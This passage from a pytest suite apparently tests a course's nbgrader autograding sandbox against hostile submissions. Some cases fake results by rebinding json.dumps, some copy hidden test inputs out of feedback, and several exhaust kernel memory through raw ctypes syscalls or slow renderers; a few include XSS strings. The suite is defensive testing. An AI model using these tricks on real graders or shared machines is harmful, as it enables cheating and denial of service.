    assert WRAPS_THE_WIRE in [cell.source for cell in ran.cells if cell.cell_type == "code"]
    flags = notebook_flags(read_notebook(path), blank(lab))
    assert any("ctypes" in flag and "rebinds json.dumps" in flag for flag in flags), flags
    decoy = _version_3_with_decoy(lab, WRAPS_THE_WIRE)  # a decoy past the cells a submission may have: still not read
    decoy["cells"] = decoy["cells"] * (MAX_CELLS // len(decoy["cells"]) + 1)
    path.write_text(json.dumps(decoy), encoding="utf-8")
    flags = notebook_flags(read_notebook(path), blank(lab))
    assert any("ctypes" in flag and "rebinds json.dumps" in flag for flag in flags), flags
    for major in (1, True):  # version 1 (JSON's true is 1 to nbformat): its code cells hold "code", not "source"
        path.write_text(json.dumps({"nbformat": major, "metadata": {}, "cells": [
            {"cell_type": "code", "code": WRAPS_THE_WIRE}]}), encoding="utf-8")
        ran = nbformat.read(io.StringIO(path.read_text(encoding="utf-8")), as_version=4)
        assert [cell.source for cell in ran.cells] == [WRAPS_THE_WIRE]
        flags = notebook_flags(read_notebook(path), blank(lab))
        assert any("ctypes" in flag and "rebinds json.dumps" in flag for flag in flags), (major, flags)
    for version in ({"nbformat": 4, "nbformat_minor": "4.0"}, {"nbformat": "4", "nbformat_minor": 5}):
        path.write_text(json.dumps({**blank(lab), **version}), encoding="utf-8")
        with pytest.raises(NotGradable, match="nbformat .so nbgrader. will not read"):
            read_notebook(path)


# ---- 66. hidden inputs printed by a later cell of the learner's: in the autograded notebook and nbgrader's feedback ---------
#
# A learner's function may record its arguments, and a cell of the learner's after the hidden test cell print them:
# autograde runs that cell and keeps its output, so the autograded notebook, and the feedback nbgrader makes of it, hand
# the learner every input the hidden test drew (a failing test's message holds learner text too: 2,000 characters a cell).
# Every notebook of a class draws the same inputs from the course's seed, kept for regrades: a notebook graded later under
# that seed (late work, a resubmission once feedback is out) can answer them from a table of the reference's answers.
RECORDS_ITS_INPUTS = '''
_seen = []
_utf8_bytes = utf8_bytes

def utf8_bytes(*args):
    if len(args[0]) < 10_000:  # the measured texts aside (ENCODED_ONCE's): the table below encodes those itself
        _seen.append(args)
    return _utf8_bytes(*args)
'''
PRINTS_ITS_INPUTS = "print(repr(_seen)[{start}:{start} + 15_000], end='')\n"  # a cell's output holds 20,000 characters
PRINTING_CELLS = 12


def _answers_from_feedback(lab: str, output: str) -> str:
    """A utf8_bytes that answers the inputs :data:`PRINTS_ITS_INPUTS` showed, with the reference's answers (what a
    learner computes offline with the course's package), and nothing else (a wrong answer)."""
    import ast

    from bpe_ref.course.trusted.autograde import load_graders

    reference = load_graders(lab).check_utf8_bytes_properties.reference
    table, raising = {}, set()
    for args in ast.literal_eval(output):
        try:
            table[args] = reference(*args)
        except ValueError:  # a text with a lone surrogate (walk62's check): raised from the table too
            raising.add(args)
    # a copy of each answer: a caller's change to it must not reach the table (the hidden test's last call: checks/kept.py)
    return (f"_table = {table!r}\n_raising = {raising!r}\n\ndef utf8_bytes(*args):\n"
            "    if args in _raising:\n        raise ValueError('a lone surrogate')\n"
            "    if len(args[0]) >= 10_000:  # a measured text: encoded\n"
            "        return list(args[0].encode('utf-8'))\n    return list(_table.get(args, []))\n")


def _late_from_feedback(lab: str, seed: int) -> dict:
    """A class's notebook of lab ``lab`` graded under ``seed`` whose cells print what its utf8_bytes was called with
    (:data:`RECORDS_ITS_INPUTS`, :data:`PRINTS_ITS_INPUTS`), then late work built from that output as the feedback shows
    it: :func:`_answers_from_feedback` in utf8_bytes' solution cell."""
    from test_grading_adversarial import blank, complete

    first = complete(lab, "task1_utf8_bytes_solution")
    at = next(i for i, c in enumerate(first["cells"]) if c["id"] == "task1_utf8_bytes_solution")
    first["cells"].insert(at + 1, code_cell("records", RECORDS_ITS_INPUTS))
    first["cells"] += [code_cell(f"prints{index}", PRINTS_ITS_INPUTS.format(start=15_000 * index))
                       for index in range(PRINTING_CELLS)]
    record = grade_cells(first["cells"], lab, policy=Policy(cell_timeout=20), total_seconds=120, seed=seed, whole_class=True)
    assert {v.grade_id: v.passed for v in record.verdicts}["task1_utf8_bytes_hidden"], record.verdicts
    shown = "".join(out.get("text", "") for cell in first["cells"][-PRINTING_CELLS:] for out in cell["outputs"])  # feedback
    late = blank(lab)
    for cell in late["cells"]:
        if cell["id"] == "task1_utf8_bytes_solution":
            cell["source"] = _answers_from_feedback(lab, shown)
    return late


@pytest.mark.xfail(strict=True, reason="open: hidden inputs printed by a learner's cell reach the autograded notebook and "
                   "its feedback, and a later notebook graded under the class's seed answers them from a table; work "
                   "handed in after the feedback is graded under a seed of its own (TrustedExecute.seed_name, "
                   "solutions/README.md, section 6; threat model, 'Hidden inputs shown back')")
def test_hidden_inputs_shown_in_feedback_answer_no_later_notebook_of_the_class():
    """Lab 00's utf8_bytes that records its arguments, and a cell after the hidden test that prints them
    (:data:`RECORDS_ITS_INPUTS`, :data:`PRINTS_ITS_INPUTS`): graded as a class's notebook, its output, which the
    feedback shows, holds every input the hidden test drew. A second notebook graded under the same seed (late work,
    class path) whose utf8_bytes answers those inputs from a table of the reference's answers, and nothing else right,
    passed the hidden test. Safe would be: no such notebook earns the hidden points. The feedback would have to hold no
    text of the learner's after a hidden call (a failure's message holds some, and the smallest failing input, by
    design), and no grading tells late work from a regrade by itself: the next test is the instructor's step."""
    lab, seed = "00_pretokenization", 20261202
    late = _late_from_feedback(lab, seed)
    record = grade_cells(late["cells"], lab, policy=Policy(cell_timeout=20), total_seconds=120, seed=seed, whole_class=True)
    assert not {v.grade_id: v.passed for v in record.verdicts}["task1_utf8_bytes_hidden"], record.verdicts


def test_late_work_graded_under_a_seed_of_its_own_draws_inputs_no_feedback_showed(tmp_path):
    """The instructor's side of the test above: ``TrustedExecute.seed_name`` names the file of ``trusted_grades/``
    that holds the seed a batch is graded under (``course_seed(course, name)``), so work handed in after the feedback
    went out is graded under a seed of its own, kept for its regrades as the class's is: the late notebook built from
    the class's feedback loses the hidden points there. Before, a course had one seed file, ``hidden_seed``."""
    from bpe_ref.course.trusted.autograde import course_seed

    lab = "00_pretokenization"
    class_seed, late_seed = course_seed(tmp_path), course_seed(tmp_path, "late_seed")
    assert class_seed != late_seed and (class_seed, late_seed) == (course_seed(tmp_path), course_seed(tmp_path, "late_seed"))
    (tmp_path / "trusted_grades" / "late").mkdir()  # the records of a student named "late", graded before
    assert course_seed(tmp_path, "late") not in (class_seed, late_seed)  # kept apart: trusted_grades/.seeds/late
    for name in ("../hidden_seed", "", ".hidden", "a/b"):
        with pytest.raises(ValueError, match="is no seed's name"):
            course_seed(tmp_path, name)
    late = _late_from_feedback(lab, class_seed)
    record = grade_cells(late["cells"], lab, policy=Policy(cell_timeout=20), total_seconds=120, seed=late_seed,
                         whole_class=True)
    assert not {v.grade_id: v.passed for v in record.verdicts}["task1_utf8_bytes_hidden"], record.verdicts


# ---- 67. a module's names rebound through its namespace: json.__dict__["dumps"], vars(json).update(...) -------------------
#
# The review flags a rebinding of what a module holds (``json.dumps = ...``, ``setattr(json, "dumps", ...)``): the stand-ins
# and drivers run in the worker look names up in the interpreter's modules, so that is the learner's to change (threat
# model, *Faking results*: flagged, not closed). It read assignment targets that are attributes: the module's own
# namespace, ``json.__dict__`` or ``vars(json)``, written by subscript or ``update``, rebinds the same and showed nothing.
THROUGH_THE_NAMESPACE = {
    "subscript": "import json\njson.__dict__['dumps'] = lambda value, **kwargs: '{}'\n",
    "update": "import json\nvars(json).update(loads=lambda text, **kwargs: {})\n",
    "builtins": "__builtins__.__dict__['sorted'] = lambda items, **kwargs: list(items)\n",
}


@pytest.mark.parametrize("how", sorted(THROUGH_THE_NAMESPACE))
def test_a_module_s_names_rebound_through_its_namespace_are_flagged(how):
    """A cell that rebinds ``json.dumps`` (or ``json.loads``, or the builtin ``sorted``) through the module's
    ``__dict__`` or ``vars()`` (:data:`THROUGH_THE_NAMESPACE`): the worker runs it, the module's name changed for every
    stand-in and driver run there after it, and the class report showed no hint (class path; a self-grade prints no
    hint). Safe: reaching a module's namespace, by ``__dict__`` or ``vars()``, is a hint of its own, as a rebinding is."""
    from test_grading_adversarial import blank, with_cell_after_setup

    from bpe_ref.course.trusted.review import notebook_flags

    lab = "00_pretokenization"
    with Sandbox(Policy(cell_timeout=20)) as box:
        ran = box.run_cell(THROUGH_THE_NAMESPACE[how] + "import json\nprint(json.dumps([1]), json.loads('[1]'), sorted((2, 1)))",
                           "rebinds")
    assert ran.ok and ran.stdout != "[1] [1] [1, 2]\n", ran  # the module's name was rebound in the worker
    flags = notebook_flags(with_cell_after_setup(blank(lab), "rebinds", THROUGH_THE_NAMESPACE[how]), blank(lab))
    assert any(flag.startswith("cell rebinds: ") and "what a module holds" in flag for flag in flags), flags


# ---- 68. tampering hidden from the review: an unchanged copy of a test cell before the one edited ---------------------------
#
# nbgrader's DeduplicateIds keeps the *last* cell marked with a grade_id and empties the others' metadata; the trusted side
# grades and nbgrader puts right that last one. The review's ``tampering`` compared the *first* cell holding a grade_id
# with the release: an unchanged copy of a test cell put before it hid every flag of the cell nbgrader graded.

def test_an_unchanged_copy_before_a_tampered_cell_hides_no_flag():
    """Lab 00's first test cell with its points raised to 100 and its source edited, after an unchanged copy of it (a
    cell id of its own): nbgrader keeps the edited one, puts its points and source back, and the class report flagged
    nothing (class path; a self-grade prints no tampering). Safe: the review compares with the release the cell
    DeduplicateIds keeps, the last marked with the grade_id, and flags a grade_id held by more than one marked cell."""
    import copy

    import nbformat
    from test_grading_adversarial import blank

    from bpe_ref.course.trusted.autograde import NamedDeduplicateIds
    from bpe_ref.course.trusted.review import tampering

    lab = "00_pretokenization"
    notebook = blank(lab)
    index, test = next((i, c) for i, c in enumerate(notebook["cells"]) if c["metadata"].get("nbgrader", {}).get("grade"))
    grade_id = test["metadata"]["nbgrader"]["grade_id"]
    notebook["cells"].insert(index, {**copy.deepcopy(test), "id": "unchanged_copy"})
    test["metadata"]["nbgrader"]["points"] = 100
    test["source"] = "pass  # the test, gone\n"
    kept = nbformat.from_dict(copy.deepcopy(notebook))
    NamedDeduplicateIds().preprocess(kept, {})
    assert [cell.id for cell in kept.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id] == [test["id"]]
    flags = tampering(notebook, blank(lab))
    assert f"edited the test cell {grade_id} (its source was restored)" in flags, flags
    assert any(flag.startswith(f"changed the nbgrader metadata of the test cell {grade_id} (points 1.0 -> 100.0")
               for flag in flags), flags
    assert any(flag.startswith(f"holds 2 cells marked {grade_id}") for flag in flags), flags
    assert tampering(blank(lab), blank(lab)) == []


# ---- 69. a cell of megabytes of code: the review parses it whole, minutes of CPU time and gigabytes for grade --class -----
#
# A submission may be as large as the exchange's ``max_dir_size`` (100 MB), its cells too: no bound of autograde's counts
# characters (a cell's IPython reading is bounded by the cell's CPU time, its run by the worker's memory). The review of
# grade --class parsed every learner cell whole and walked its tree several times: a cell of a 1 MB list literal cost it
# about 8 s of CPU time and 800 MB, so a 90 MB one, tens of gigabytes, ended the report of the whole class (the machine's
# memory) or stalled it for as long as the instructor waited.
BIG_LITERAL = "numbers = [" + "0," * 500_000 + "]\n"


def test_a_cell_of_megabytes_costs_the_review_no_more_than_a_bound():
    """Lab 00's release with a cell of :data:`BIG_LITERAL` (1 MB) and one of :data:`WRAPS_THE_WIRE` after it: the review
    took seconds of CPU time and hundreds of MB for the first (class path; a self-grade reads no text). Safe: a cell of
    more than ``REVIEW_CELL_CHARACTERS`` (100,000; the solutions' largest holds 4,106), or past
    ``REVIEW_NOTEBOOK_CHARACTERS`` (500,000) read in the notebook, is not parsed, a flag of its own ("its text was not
    read"), and the cells after it are read as before."""
    import time

    from test_grading_adversarial import blank, with_cell_after_setup

    from bpe_ref.course.trusted.review import notebook_flags

    lab = "00_pretokenization"
    notebook = with_cell_after_setup(with_cell_after_setup(blank(lab), "wraps", WRAPS_THE_WIRE), "big", BIG_LITERAL)
    start = time.process_time()
    flags = notebook_flags(notebook, blank(lab))
    spent = time.process_time() - start
    assert spent < 2.0, (spent, flags)
    assert flags[:1] == ["cell big: its text was not read: 1,000,013 characters, past the review's 100,000 for a cell"], flags
    assert any(flag.startswith("cell wraps: ") and "rebinds json.dumps" in flag for flag in flags), flags
    many = blank(lab)
    for index in range(7):
        many = with_cell_after_setup(many, f"part{index}", "numbers = [" + "0," * 40_000 + "]\n")
    flags = notebook_flags(many, blank(lab))
    assert [flag.split(":")[0] for flag in flags] == ["cell part0"], flags  # 6 cells of 80,012 read: the seventh is past
    assert flags[0].endswith("past the review's 500,000 for a notebook"), flags


# ---- 70. what the instructor opens: a raw cell of nested tags, cleaned by bleach in time growing as its square --------------
#
# nbconvert's templates, nbgrader's feedback and formgrade among them, pass a raw cell's source to ``clean_html``
# (bleach): its time grows as the square of the tags nested or left open. A raw cell is never run nor graded, and kept in
# the autograded notebook as handed in; no bound of autograde's counts a cell's characters (section 47 counts cells).
NESTED_TAGS = "<div>" * 8_000 + "<script>alert('RAW')</script>"


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_a_raw_cell_of_nested_tags_costs_the_instructor_s_pages_no_seconds(template):
    """A raw cell of :data:`NESTED_TAGS` (40 KB): nbgrader's feedback page, and the formgrader's page of the submission,
    cost 4 s of CPU time each (both paths' autograded notebook keeps it; the class's pages are the instructor's), so a
    submission of 2,000 such cells, 80 MB, held ``generate_feedback`` (the class's, one notebook after another) and the
    formgrader (one thread for every page) for hours. Safe: ``nbgrader_config.py`` replaces the exporter's
    ``clean_html`` (:func:`bpe_ref.course.printable.clean_html`): a raw cell's text is shown as text, escaped, as the HTML
    of a markdown cell is; the rest is cleaned as nbconvert cleans it."""
    import time

    import nbformat

    start = time.process_time()
    html = _instructor_page(template, [nbformat.v4.new_raw_cell(NESTED_TAGS), nbformat.v4.new_markdown_cell("**kept**")])
    spent = time.process_time() - start
    assert spent < 1.0, spent
    assert "<script>alert('RAW')" not in html and "&lt;div&gt;&lt;div&gt;" in html and "<strong>kept</strong>" in html


def test_a_seed_made_by_nbgrader_processes_started_at_once_is_one_seed(tmp_path, monkeypatch):
    """``python -m bpe_ref autograde --jobs N`` makes the class's seed before its nbgrader processes start, not a seed of
    another name (section 66's late work): each process made it at once, and one read the file another had made and not
    yet written, ``int("")``, a ValueError that failed its notebooks. Safe: the seed is written whole to a file of its
    own, then linked in place; every process reads the one linked first."""
    import secrets
    import threading

    from bpe_ref.course.trusted.autograde import course_seed

    draw = secrets.randbits
    monkeypatch.setattr(secrets, "randbits", lambda bits: (time.sleep(0.3), draw(bits))[1])  # a slow draw
    seeds, errors = [], []

    def grade() -> None:
        try:
            seeds.append(course_seed(tmp_path, "late_seed"))
        except ValueError as error:
            errors.append(error)

    threads = [threading.Thread(target=grade) for _ in range(4)]
    for thread in threads:
        thread.start()
        time.sleep(0.05)
    for thread in threads:
        thread.join()
    assert errors == [] and len(seeds) == 4 and len(set(seeds)) == 1, (errors, seeds)


# ---- 71. what the instructor opens: a markdown line of many "[", matched by nbconvert's strip_files_prefix ------------------
#
# nbconvert's templates pass each markdown cell's HTML to ``strip_files_prefix``, whose markdown pattern
# ``(!?)\[(.*?)\]\(/?files/(.*?)\)``, tried from each ``[`` of a line, scans the rest of it: time growing as the square of
# the ``[`` in a line. The course's ``markdown2html`` (section 37) keeps brackets as text.
BRACKETS = "[" * 20_000 + " a [plot](files/plot.png) and ![img](files/img.png)"


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_a_markdown_line_of_brackets_costs_the_instructor_s_pages_no_seconds(template):
    """A markdown cell of one line of 20,000 ``[`` (:data:`BRACKETS`): nbgrader's feedback page and the formgrader's page
    of the submission cost 3 to 6 s of CPU time each, 200,000 some 300 s (both paths' autograded notebook; the pages are
    the instructor's: ``generate_feedback`` renders the class one notebook after another, the formgrader serves every
    page from one thread). Safe: ``nbgrader_config.py`` replaces the exporter's ``strip_files_prefix``
    (:func:`bpe_ref.course.printable.strip_files_prefix`), whose captions and locations are bounded: linear, and a link
    to ``files/`` still loses that prefix as nbconvert's does."""
    import time

    import nbformat
    from nbconvert.filters.strings import strip_files_prefix as nbconvert_s

    from bpe_ref.course.printable import strip_files_prefix

    start = time.process_time()
    html = _instructor_page(template, [nbformat.v4.new_markdown_cell(BRACKETS)])
    spent = time.process_time() - start
    assert spent < 1.0, spent
    assert 'href="plot.png"' in html and 'src="img.png"' in html and "[" * 100 in html, html[-3000:]
    for text in ('<img src="files/a.png"> <a href=\'/files/b\'>', "[a](files/x.png) ![b](/files/y) [c](other/z)", "a [b] (c)"):
        assert strip_files_prefix(text) == nbconvert_s(text), text


# ---- 72. what the instructor opens: a markdown cell of LaTeX openers, each of which nbconvert's math plugin ends by a search --
#
# The course's ``markdown2html`` (section 37) is nbconvert's ``MarkdownWithMath``: its math plugin looks for the end of a
# LaTeX environment (``\begin{x} ... \end{x}``), or of ``\\[`` and ``\\(`` math, from each opener to the end of the cell
# (``.*?`` over every line): time growing as the square of the openers that are never closed.
OPENERS = "\\begin{x}" * 6_000


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_a_markdown_cell_of_latex_openers_costs_the_instructor_s_pages_no_seconds(template):
    """A markdown cell of 6,000 ``\\begin{x}`` (:data:`OPENERS`, 54 KB): nbgrader's feedback page and the formgrader's
    page of the submission cost 5.7 s of CPU time each, growing as its square (both paths' autograded notebook; the
    pages are the instructor's, rendered one after another, served from one thread). Safe: a markdown cell of more than
    ``MOST_MATH_OPENERS`` (64) openers is shown as text (:func:`bpe_ref.course.printable.markdown_html`), its HTML escaped
    as ever; a cell of a few is rendered with its math as before."""
    import time

    import nbformat

    start = time.process_time()
    html = _instructor_page(template, [nbformat.v4.new_markdown_cell(OPENERS + "<script>alert(1)</script>")])
    spent = time.process_time() - start
    assert spent < 1.0, spent
    assert "\\begin{x}" * 100 in html and "<script>alert(1)" not in html
    html = _instructor_page(template, [nbformat.v4.new_markdown_cell("**Bold** and $x_1$\n\n\\begin{equation} a \\end{equation}")])
    assert "<strong>Bold</strong>" in html and "\\begin{equation}" in html


# ---- 73. DAG replies: a tree_reduce whose result shares its pairs, 2**69 places in 2,415 tuples -----------------------------
#
# Lab 10's tree_reduce written with overlapping pairs, ``combine(level[i], level[i + 1]) for i in range(len(level) - 1)``
# (every pair but the ends in two merges), makes n * (n - 1) / 2 tuples for n parts, but the tree they stand for, each
# written out where it is held, has 2**(n - 1) leaves. The driver that reports the tree (task 3's tree_through_pair, task
# 5's graph_through_as_task) wrote it out: in the grading worker 30 s of CPU time (and up to its 2 GiB) before the call was
# stopped, for any hidden input of 26 parts or more; 18 to 25 parts, a reply of more than 4 MiB. Either way the function was
# stopped for the rest of the notebook and the hidden test's message said "an infinite loop, or a much slower algorithm",
# under a third of the seeds (those whose first failing input has 18 parts or more: 13 of 0-39). In process (the tests, the
# learner's kernel) the same walk took gigabytes. The trusted side stayed bounded (the 4 MiB reply, the depth of decode).
# Safe: the driver counts the places first, by visits (each tuple once, as the sum of its items'), and raises past
# ``MOST_PLACES``: the call fails at once, hypothesis shrinks to 3 parts, and the message is the wrong tree with its hint.
OVERLAPPING_PAIRS = "        paired = [combine(level[i], level[i + 1]) for i in range(len(level) - 1)]\n"
DAG_SEED = 11  # task 3's first failing hidden input, under this seed: 67 parts


def _overlapping_pairs_code() -> str:
    from test_mistakes import PAIRED, source_of

    cells = ("setup", "task3_tree_reduce_solution", "task3_tree_shape")
    return "\n".join(source_of("10_distributed", cell) for cell in cells).replace(PAIRED, OVERLAPPING_PAIRS)


def test_a_tree_of_shared_pairs_is_counted_by_visits():
    """The count behind the bound: 2,415 tuples that stand for 2**69 leaves count past it at once, an honest tree of 70
    parts as its 139 places, and a list that holds itself as past it (never a loop)."""
    from bpe_ref.course.checks.lab10_distributed import MOST_PLACES, _places, tree_reduce

    level = list(range(70))
    while len(level) > 1:
        level = [(level[i], level[i + 1]) for i in range(len(level) - 1)]
    start = time.process_time()
    assert _places(level[0], {}) == MOST_PLACES + 1
    assert time.process_time() - start < 1.0
    assert _places(tree_reduce(list(range(70)), lambda left, right: (left, right)), {}) == 139
    looped: list = [1]
    looped.append(looped)
    assert _places(looped, {}) > MOST_PLACES


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_tree_reduce_of_overlapping_pairs_loses_task_3_in_a_second_with_its_hint(whole_class):
    """The mistake graded in the worker: the driver's call on 70 parts fails at once (it took 30 s of CPU time and
    stopped the function), and the hidden test under a seed whose first failing input has 67 parts ends with the smallest
    one, 3 parts, the tree and its hint, in seconds."""
    from test_mistakes import remote

    from bpe_ref.course.checks import lab10_distributed as graders
    from bpe_ref.course.trusted.autograde import lab_policy
    from bpe_ref.course.trusted.verdicts import hidden_seed

    code = _overlapping_pairs_code()
    with Sandbox(lab_policy(graders, Policy())) as box:
        assert box.run_cell(code, "mistake").ok
        start = time.monotonic()
        with pytest.raises(LearnerError, match="combined twice"):
            RemoteFunction(box, "tree_shape").invoke((list(range(70)),), driver=graders.tree_through_pair)
        assert time.monotonic() - start < 10, time.monotonic() - start
    start = time.monotonic()
    with hidden_seed(DAG_SEED, whole_class=whole_class):
        message = remote("10_distributed", code, "tree_shape", "check_tree_shape_properties")
    took = time.monotonic() - start
    assert message is not None and message.startswith("tree_shape(parts=[0, 1, 2]): expected ((0, 1), 2), got ((0, 1), (1, 2))")
    assert "or combined twice?" in message and "among" in message, message
    assert took < 20, took


def test_a_tree_reduce_of_overlapping_pairs_costs_its_class_task_3_only():
    """The whole notebook as a class grades it (its hidden inputs replayed): task 3's visible and hidden tests fail, with
    the wrong tree of 3 parts, every other task keeps its points, in well under a minute."""
    from test_mistakes import PAIRED

    from bpe_ref.course.notebooks import read_notebook_json, source_notebook

    notebook = read_notebook_json(source_notebook("10_distributed"))
    for cell in notebook["cells"]:
        if cell["id"] == "task3_tree_reduce_solution":
            source = "".join(cell["source"])
            assert PAIRED in source
            cell["source"] = source.replace(PAIRED, OVERLAPPING_PAIRS)
    start = time.monotonic()
    record = grade_cells(notebook["cells"], "10_distributed", seed=DAG_SEED, whole_class=True)
    took = time.monotonic() - start
    failed = {verdict.grade_id: verdict.message for verdict in record.verdicts if not verdict.passed}
    assert set(failed) == {"task3_tree_reduce", "task3_tree_reduce_hidden"}, failed
    assert failed["task3_tree_reduce_hidden"].startswith("tree_shape(parts=[0, 1, 2]): expected ((0, 1), 2)"), failed
    assert took < 60, took


# ---- 74. kernel memory that a call makes without end: memfd_secret's pages, Landlock rules, epoll items --------------------
#
# The memory watch (sections 52-53) counts what is resident in the worker's processes, the bytes queued in their sockets
# and pipes, and the scratch folder's limit the files they hold unlinked; each process holds at most 1,024 fds. Three calls
# make kernel memory in none of those, as much as they are called, not as many fds as they take. memfd_secret's pages,
# written through a mapping then unmapped, are unevictable memory of the fd's file, which shows no blocks: 8 of 60 MiB
# held past a memory limit of 200 MiB and a folder's of 64 MiB, and the cell ran to its end. Each rule added to a
# Landlock ruleset is some 70 bytes of the kernel's: 60 rulesets of the 65,536 TCP ports held 277 MiB of unreclaimable
# slab (8 s of CPU time; 1,000 fds, 4.5 GiB). An epoll instance holds an item for each (file, fd) added, kept after the
# fd is closed while the file is open: 400 epolls, 30 eventfds and 500 fd numbers made 5.5 million items, 1.1 GiB, the
# grading account's whole allowance (``fs.epoll.max_user_watches``, 4% of the machine's memory), so that every other
# epoll of that account (a notebook server's, a classmate's forkserver) failed with ENOSPC while the worker lived.
# (Measured with this file's cells scaled up, at a load average of 100 to 500 from other work on the machine.)
KERNEL_MEMORY = """
import ctypes, errno, os, select
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
class Attr(ctypes.Structure):
    _fields_ = [("fs", ctypes.c_uint64), ("net", ctypes.c_uint64), ("scoped", ctypes.c_uint64)]
class Port(ctypes.Structure):
    _pack_ = 1
    _fields_ = [("allowed_access", ctypes.c_uint64), ("port", ctypes.c_uint64)]
def failed(call):
    return f"{call}:" + errno.errorcode.get(ctypes.get_errno(), "?")
outcomes = []
secret = libc.syscall(447, 0)  # memfd_secret (the same number on x86_64 and arm64)
outcomes.append(failed("memfd_secret") if secret < 0 else "memfd_secret:made")
ruleset = libc.syscall(444, ctypes.byref(Attr(0, 3, 0)), ctypes.c_size_t(24), ctypes.c_uint32(0))
if ruleset < 0:
    outcomes.append(failed("landlock_create_ruleset"))
else:
    added = sum(libc.syscall(445, ruleset, 2, ctypes.byref(Port(1, port)), 0) == 0 for port in range(10_000))
    outcomes.append(f"landlock_rules:{added}")
try:
    poller = select.epoll()
    watched = os.eventfd(0)
    spares = [os.dup(watched) for _ in range(500)]
    for spare in spares:  # an item per fd number, each kept once its fd is closed: the file is still open
        poller.register(spare, select.EPOLLIN)
    for spare in spares:
        os.close(spare)
    outcomes.append("epoll:500_items")
except OSError as error:
    outcomes.append("epoll:" + errno.errorcode.get(error.errno, "?"))
print(*outcomes)
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="seccomp is Linux's")
@pytest.mark.parametrize("processes", [False, True], ids=["alone", "with processes"])
def test_kernel_memory_no_watch_counts_is_refused(processes):
    """A cell made a memfd_secret, a Landlock ruleset of 10,000 rules and an epoll of 500 items kept past their fds'
    closing: each the first of as many as a cell likes, kernel memory that no limit of the worker's counted (above), up
    to the machine's (memfd_secret, Landlock) or the grading account's whole epoll allowance. Safe: the seccomp filter
    refuses memfd_secret and the Landlock calls in every lab (the worker confines itself before the filter is in), and
    epoll where the lab allows no processes (``_KERNEL_MEMORY_CALLS``, ``_EPOLL_CALLS``), counted by the keeper.
    Where it allows them (lab 03), multiprocessing's forkserver waits on an epoll: the keeper bounds the items added
    (``test_epoll_items_where_processes_are_allowed_are_bounded``)."""
    with Sandbox(Policy(cell_timeout=20, allow_processes=processes)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(KERNEL_MEMORY, "kernel memory")
        box.close()
        report, isolation = box.behaviour(), box.isolation
    epoll = "epoll:500_items" if processes else "epoll:EPERM"
    assert run.ok and run.stdout.split() == ["memfd_secret:EPERM", "landlock_create_ruleset:EPERM", epoll], run
    assert any("no memfd_secret or Landlock rules" in line for line in isolation), isolation
    if any("refused calls counted by the keeper" in line for line in isolation):
        refused = ["memfd_secret", "landlock_create_ruleset"] + ([] if processes else ["epoll_create1"])
        assert all(report["refused"].get(name, 0) >= 1 for name in refused), report


EPOLL_ITEMS = """
import os, select
pollers = [select.epoll() for _ in range(100)]
watched = os.eventfd(0)
spares = [os.dup(watched) for _ in range(500)]
added = 0
try:
    for poller in pollers:
        for spare in spares:
            poller.register(spare, select.EPOLLIN)
            added += 1
except OSError as error:
    print(f"refused:{added}:{error.errno}")
else:
    print(f"held:{added}")  # the 50,000 items stay once the spares are closed: the eventfd is still open
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="epoll is Linux's")
def test_epoll_items_where_processes_are_allowed_are_bounded():
    """50,000 epoll items (some 10 MiB of the kernel's; 5.5 million took the account's whole allowance, 1.1 GiB) made in
    lab 03's worker, where epoll is allowed (multiprocessing's forkserver waits on one). Safe: the filter sends each
    ``epoll_ctl(EPOLL_CTL_ADD)`` to the keeper, which counts them and answers ENOSPC, as the kernel does past the
    account's allowance, past ``keeper.MOST_EPOLL_ITEMS`` (4,096), counted for review."""
    from bpe_ref.course.trusted.worker import keeper

    most = getattr(keeper, "MOST_EPOLL_ITEMS", 4096)  # (main before section 74 had no bound: the assertion fails there)
    with Sandbox(Policy(cell_timeout=20, allow_processes=True)) as box:
        if not confined(box) or not any("refused calls counted by the keeper" in line for line in box.isolation):
            pytest.skip(f"not confined here, or no keeper to count ({'; '.join(box.isolation)})")
        run = box.run_cell(EPOLL_ITEMS, "epoll items")
        box.close()
        report = box.behaviour()
    assert run.ok and run.stdout.split() == [f"refused:{most}:28"], run
    assert report["refused"].get(f"epoll_ctl(an item past {most})", 0) >= 1, report


# ---- 75. a process's fds and memory shown by no /proc/PID: a thread's own fd table, a main thread that ended ---------------
#
# The watches read a process's fds in ``/proc/PID/fd`` and its resident memory in ``/proc/PID/stat``, which are its main
# thread's. A thread that called ``unshare(CLONE_FILES)`` (or was cloned without ``CLONE_FILES``) has an fd table of its
# own, listed in ``/proc/PID/task/TID/fd`` only: 8 memfds of 60 MiB it held went past a folder's limit of 64 MiB and a
# memory limit of 200 MiB, and the cell ran to its end (sockets' queues would have hidden the same way). A main thread
# that ends (``SYS_exit``, not ``exit_group``) while another runs leaves ``/proc/PID/fd`` empty and ``/proc/PID/stat``
# without a resident page: the thread left held 8 memfds of 60 MiB until the cell's backstop, and lab 03's 4 processes
# whose main threads ended held 60 MiB each, 240 MiB together past the limit of 200 MiB, to the cell's end.
OWN_FD_TABLE = """
import ctypes, os, threading, time
libc = ctypes.CDLL(None, use_errno=True)
outcomes = []
stack = ctypes.create_string_buffer(1 << 16)
top = (ctypes.addressof(stack) + (1 << 16) - 64) & ~15
libc.clone.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p]
# a thread without CLONE_FILES (VM, FS, SIGHAND, THREAD, SYSVSEM) that ends at once: syscall(SYS_exit)
made = libc.clone(ctypes.cast(libc.syscall, ctypes.c_void_p), top, 0x100 | 0x200 | 0x800 | 0x10000 | 0x40000, 60)
outcomes.append("clone:made" if made > 0 else "clone:" + os.strerror(ctypes.get_errno()))
done = threading.Event()
def hide():
    if libc.unshare(0x400) != 0:  # CLONE_FILES
        outcomes.append("unshare:" + os.strerror(ctypes.get_errno()))
    else:
        held = [os.memfd_create(f"m{i}") for i in range(8)]
        for fd in held:
            os.write(fd, b"x" * (60 << 20))
        outcomes.append("held:8 x 60 MiB")
    done.set()
    time.sleep(3)
threading.Thread(target=hide).start()
done.wait()
time.sleep(2)
